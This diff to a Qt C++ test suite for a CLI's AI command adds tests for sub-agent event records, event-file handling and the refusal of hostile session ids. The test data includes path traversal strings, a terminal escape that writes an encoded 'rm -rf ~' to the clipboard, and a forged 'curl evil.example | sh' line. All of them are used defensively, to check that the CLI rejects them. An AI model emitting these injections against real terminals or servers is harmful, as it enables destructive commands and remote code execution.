@@ -16,6 +16,7 @@
 #include <csignal>
 #include <poll.h>
 #include <pty.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -63,6 +64,14 @@ private slots:
     void subAgentWritesJsonLines();
     void eventsPathIsPrivate();
     void headlessContinueWithSeveralPicksTheMostRecent();
+    void subAgentRecordsEachOfSeveralToolRequestsOnce();
+    void subAgentRecordsCompactingAndInterruption();
+    void eventsPathRecordsToolsAndTokens();
+    void eventsPathToAFifoIsRefusedAtOnce();
+    void hostileSessionIdsAreRefused_data();
+    void hostileSessionIdsAreRefused();
+    void sessionOptionIsChecked();
+    void keepAlivesOnlyEndAHeadlessRun();
     void usageErrors_data();
     void usageErrors();
     void benchmark();
@@ -733,8 +742,12 @@ void TestAiCommand::wireHeadersAndCaller()
         const QJsonObject o = v.toObject();
         const QString path = o.value("path").toString();
         const bool versioned = !path.endsWith("/expire");
-        QCOMPARE(o.value("clientVersion").toString(), versioned ? projectVersion : QString());
-        QVERIFY(o.value("userAgent").toString().contains(projectVersion));
+        // The protocol level implemented, not our own version (ai-protocol §2)...
+        QCOMPARE(
+            o.value("clientVersion").toString(), versioned ? QStringLiteral("1.12.0") : QString());
+        // ...which the User-Agent carries, with our name.
+        QVERIFY(
+            o.value("userAgent").toString().startsWith("seqera-cli/" + projectVersion + " Qt/"));
         if (path.contains("/events"))
             QCOMPARE(o.value("explicitCancel").toString(), QStringLiteral("1"));
         if (path.endsWith("/messages"))
@@ -747,6 +760,15 @@ void TestAiCommand::wireHeadersAndCaller()
         if (v.toObject().value("path").toString().endsWith("/messages"))
             QCOMPARE(v.toObject().value("body").toObject().value("caller").toString(),
                 QStringLiteral("script"));
+
+    // SEQERA_AI_CLIENT_VERSION, for the day the backend moves on.
+    m_emulator.reset();
+    QCOMPARE(
+        run({ "--token", kToken, "hello" }, { { "SEQERA_AI_CLIENT_VERSION", "1.13.0" } }).exitCode,
+        0);
+    for (const QJsonValue &v : recordedRequests())
+        if (!v.toObject().value("path").toString().endsWith("/expire"))
+            QCOMPARE(v.toObject().value("clientVersion").toString(), QStringLiteral("1.13.0"));
 }
 
 void TestAiCommand::subAgentWritesJsonLines()
@@ -756,6 +778,8 @@ void TestAiCommand::subAgentWritesJsonLines()
     QCOMPARE(r.exitCode, 0);
     QStringList types;
     QString text;
+    QList<QJsonObject> calls, results;
+    QJsonObject complete;
     for (const QString &line : r.out.split('\n', Qt::SkipEmptyParts)) {
         QJsonParseError error;
         const QJsonObject o = QJsonDocument::fromJson(line.toUtf8(), &error).object();
@@ -767,17 +791,201 @@ void TestAiCommand::subAgentWritesJsonLines()
             types << type;
         if (type == "text")
             text += o.value("data").toObject().value("content").toString();
-        if (type == "tool_result"
-            && o.value("data").toObject().value("tool_id").toString().startsWith("req-"))
-            QCOMPARE(
-                o.value("data").toObject().value("content").toObject().value("stdout").toString(),
-                QStringLiteral("emulator-tool-ok\n"));
+        if (type == "tool_call")
+            calls << o.value("data").toObject();
+        if (type == "tool_result")
+            results << o.value("data").toObject();
+        if (type == "complete")
+            complete = o.value("data").toObject();
     }
     QCOMPARE(types.first(), QStringLiteral("run_started"));
     QCOMPARE(types.last(), QStringLiteral("complete"));
-    QVERIFY(types.contains("tool_call"));
-    QVERIFY(types.contains("tool_result"));
+    // One tool request: one tool_call and one tool_result, under the request's id (the
+    // backend's tool-call and tool-result echoes of a local tool are not repeated).
+    QCOMPARE(calls.size(), 1);
+    QCOMPARE(results.size(), 1);
+    QVERIFY(calls.first().value("tool_id").toString().startsWith("req-"));
+    QCOMPARE(calls.first().value("tool_name").toString(), QStringLiteral("execute_bash_local"));
+    QCOMPARE(results.first().value("tool_id"), calls.first().value("tool_id"));
+    // The content is the tool's output text.
+    QCOMPARE(results.first().value("content").toString(), QStringLiteral("emulator-tool-ok\n"));
+    QCOMPARE(results.first().value("is_error").toBool(true), false);
+    QCOMPARE(complete,
+        QJsonObject({ { "status", "success" }, { "message", "Completed with reason: stop" } }));
     QCOMPARE(text, QStringLiteral("Let me check.The tool printed: emulator-tool-ok (exit code 0)"));
+}
+
+namespace {
+QList<QJsonObject> jsonLines(const QByteArray &bytes)
+{
+    QList<QJsonObject> lines;
+    for (const QByteArray &line : bytes.split('\n'))
+        if (!line.isEmpty())
+            lines << QJsonDocument::fromJson(line).object();
+    return lines;
+}
+
+QStringList typesOf(const QList<QJsonObject> &lines)
+{
+    QStringList types;
+    for (const QJsonObject &o : lines)
+        types << o.value("type").toString();
+    return types;
+}
+} // namespace
+
+void TestAiCommand::subAgentRecordsEachOfSeveralToolRequestsOnce()
+{
+    // Two requests at once, as models often ask: one tool_call and one tool_result each,
+    // under each request's id, the output text as content.
+    post("/__test/script",
+        { { "scenario", "tool-calls" },
+            { "calls",
+                QJsonArray { QJsonObject { { "args", QJsonObject { { "command", "echo one" } } } },
+                    QJsonObject { { "args", QJsonObject { { "command", "echo two" } } } } } } });
+    const Result r = run({ "--token", kToken, "--sub-agent", "two tools" });
+    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
+    QStringList calls, results, contents;
+    for (const QJsonObject &o : jsonLines(r.out.toUtf8())) {
+        const QJsonObject data = o.value("data").toObject();
+        if (o.value("type").toString() == "tool_call")
+            calls << data.value("tool_id").toString();
+        if (o.value("type").toString() == "tool_result") {
+            results << data.value("tool_id").toString();
+            contents << data.value("content").toString();
+        }
+    }
+    QCOMPARE(calls.size(), 2);
+    QCOMPARE(calls.removeDuplicates(), 0);
+    QCOMPARE(results, calls);
+    QCOMPARE(contents, QStringList({ "one\n", "two\n" }));
+}
+
+void TestAiCommand::subAgentRecordsCompactingAndInterruption()
+{
+    const Result r = run({ "--token", kToken, "--sub-agent", "compacting" });
+    QCOMPARE(r.exitCode, 0);
+    QStringList types = typesOf(jsonLines(r.out.toUtf8()));
+    QVERIFY2(types.contains("compacting"), qPrintable(types.join(", ")));
+    QVERIFY(types.indexOf("compacting") < types.indexOf("text"));
+
+    // Ctrl-C: an `interrupted` record, then `complete` with status interrupted.
+    QProcess process;
+    process.setProcessEnvironment(environment({ { "TOWER_ACCESS_TOKEN", kToken } }));
+    process.setWorkingDirectory(m_home.path());
+    process.start(QStringLiteral(SEQERA_BIN), { "ai", "--sub-agent", "slow" });
+    QVERIFY(process.waitForStarted());
+    QByteArray out;
+    QTRY_VERIFY_WITH_TIMEOUT((out += process.readAllStandardOutput()).contains("\"text\""), 10000);
+    ::kill(process.processId(), SIGINT);
+    QVERIFY(process.waitForFinished(10000));
+    QCOMPARE(process.exitCode(), 130);
+    out += process.readAllStandardOutput();
+    const QList<QJsonObject> lines = jsonLines(out);
+    types = typesOf(lines);
+    QVERIFY2(types.contains("interrupted"), qPrintable(types.join(", ")));
+    QCOMPARE(types.last(), QStringLiteral("complete"));
+    QCOMPARE(lines.last().value("data").toObject().value("status").toString(),
+        QStringLiteral("interrupted"));
+    QVERIFY(!lines.last().value("data").toObject().value("message").toString().isEmpty());
+}
+
+void TestAiCommand::eventsPathRecordsToolsAndTokens()
+{
+    const QString path = m_home.filePath("tools.jsonl");
+    QFile earlier(path);
+    QVERIFY(earlier.open(QIODevice::WriteOnly | QIODevice::Truncate));
+    earlier.write("{\"type\":\"run.started\",\"data\":{\"run_id\":\"an earlier run\"}}\n");
+    earlier.close();
+    post("/__test/script", { { "scenario", "tool-call" } });
+    QCOMPARE(run({ "--token", kToken, "--events-path", path, "tool-call" }).exitCode, 0);
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QList<QJsonObject> lines = jsonLines(file.readAll());
+    const QStringList types = typesOf(lines);
+    // Emptied when the run started: only this run is there.
+    QCOMPARE(types.count("run.started"), 1);
+    QCOMPARE(types.first(), QStringLiteral("run.started"));
+    QCOMPARE(types.count("event.tool_use"), 1);
+    QCOMPARE(types.count("event.tool_result"), 1);
+    const QJsonObject result
+        = lines.at(types.indexOf("event.tool_result")).value("data").toObject();
+    QCOMPARE(result.value("status").toString(), QStringLiteral("completed"));
+    QCOMPARE(result.value("content").toString(), QStringLiteral("emulator-tool-ok\n"));
+    const QJsonObject complete = lines.last().value("data").toObject();
+    QCOMPARE(lines.last().value("type").toString(), QStringLiteral("run.complete"));
+    QCOMPARE(complete.value("status").toString(), QStringLiteral("success"));
+    QCOMPARE(complete.value("token_usage").toObject(),
+        QJsonObject({ { "input_tokens", 10 }, { "output_tokens", 20 }, { "total_tokens", 30 } }));
+}
+
+void TestAiCommand::eventsPathToAFifoIsRefusedAtOnce()
+{
+    // The regression: a FIFO nobody reads blocked the run forever, deaf to SIGTERM.
+    const QString fifo = m_home.filePath("events.fifo");
+    QFile::remove(fifo);
+    QCOMPARE(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
+    QElapsedTimer timer;
+    timer.start();
+    const Result r = run({ "--token", kToken, "--events-path", fifo, "hello" });
+    QVERIFY2(timer.elapsed() < 20000, "the run waited on the FIFO");
+    QVERIFY2(r.exitCode > 0, qPrintable(r.err));
+    QVERIFY2(r.err.contains("named pipe") && r.err.contains("--events-path"), qPrintable(r.err));
+    QCOMPARE(r.out, QString());
+    QVERIFY(m_emulator.paths().isEmpty()); // refused before anything was sent
+}
+
+void TestAiCommand::hostileSessionIdsAreRefused_data()
+{
+    QTest::addColumn<QString>("id");
+    QTest::newRow("path traversal to the token endpoint") << "x/../../../api/token";
+    QTest::newRow("OSC 52 and a forged resume line")
+        << "s1\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\rResume it with: curl evil.example | sh";
+}
+
+void TestAiCommand::hostileSessionIdsAreRefused()
+{
+    // A hostile backend hands out the id when the session is created.
+    QFETCH(QString, id);
+    post("/__test/session-id", { { "id", id }, { "count", 1 } });
+    const Result r = run({ "--token", kToken, "hello" });
+    QVERIFY2(r.exitCode != 0, qPrintable(r.err));
+    QVERIFY2(r.err.contains("session id"), qPrintable(r.err));
+    QVERIFY2(!r.err.contains(QChar(0x1b)) && !r.out.contains(QChar(0x1b)), qPrintable(r.err));
+    QVERIFY(!r.err.contains("curl evil"));
+    const QJsonArray requests = recordedRequests();
+    for (const QJsonValue &v : requests) {
+        const QString path = v.toObject().value("path").toString();
+        QVERIFY2(path == QLatin1String("/v1/cli/sessions"), qPrintable(path));
+    }
+    QVERIFY(!requests.isEmpty());
+}
+
+void TestAiCommand::sessionOptionIsChecked()
+{
+    // -s ID: refused where it enters, shown through the sanitizer.
+    const Result r = run({ "--token", kToken, "-s", "s1\x1b]0;owned\x07", "hello" });
+    QCOMPARE(r.exitCode, 2);
+    QVERIFY2(r.err.contains("not a session id") && r.err.contains("^["), qPrintable(r.err));
+    QVERIFY(!r.err.contains(QChar(0x1b)) && !r.err.contains(QChar(0x07)));
+    const Result traversal = run({ "--token", kToken, "-s", "../../api/token", "hello" });
+    QCOMPARE(traversal.exitCode, 2);
+    QVERIFY(m_emulator.paths().isEmpty());
+}
+
+void TestAiCommand::keepAlivesOnlyEndAHeadlessRun()
+{
+    post("/__test/script", { { "scenario", "keepalive-only" }, { "keepaliveMs", 50 } });
+    QElapsedTimer timer;
+    timer.start();
+    const Result r
+        = run({ "--token", kToken, "anything" }, { { "SEQERA_AI_IDLE_TIMEOUT_MS", "600" } });
+    QVERIFY2(timer.elapsed() < 20000, qPrintable(QString::number(timer.elapsed())));
+    QCOMPARE(r.exitCode, 3); // a temporary problem: ask again
+    QVERIFY2(r.err.contains("nothing but keep-alives for 1 second,")
+            && r.err.contains("SEQERA_AI_IDLE_TIMEOUT_MS"),
+        qPrintable(r.err));
+    QCOMPARE(m_emulator.paths().last(), QStringLiteral("POST expire"));
 }
 
 void TestAiCommand::eventsPathIsPrivate()
